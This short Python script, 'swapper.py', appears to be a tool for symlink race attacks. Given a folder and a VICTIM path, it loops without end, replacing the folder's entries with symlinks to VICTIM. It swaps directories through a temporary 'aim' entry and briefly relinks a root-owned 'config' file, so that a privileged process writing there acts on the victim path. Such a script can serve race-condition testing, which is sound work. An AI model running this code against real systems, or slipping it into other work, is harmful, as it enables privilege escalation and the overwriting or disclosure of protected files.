"""Runs as the user who has a folder, and puts a link to VICTIM in the place of whatever appears in it. Usage: swapper.py FOLDER VICTIM"""
import os
import sys

folder, victim = sys.argv[1:3]
os.chdir(folder)
print("ready", flush=True)
while True:
    for name in os.listdir("."):
        if name in ("config", "aim"):
            continue
        try:
            if os.path.isdir(name) and not os.path.islink(name):
                os.rename(name, "aim")
                os.symlink(os.path.dirname(victim), name)
                os.unlink(name)
                os.rename("aim", name)
            else:
                os.unlink(name)
                os.symlink(victim, name)
        except OSError:
            pass
    try:
        if os.lstat("config").st_uid == 0:
            os.unlink("config")
            os.symlink(victim, "config")
            os.unlink("config")
    except OSError:
        pass
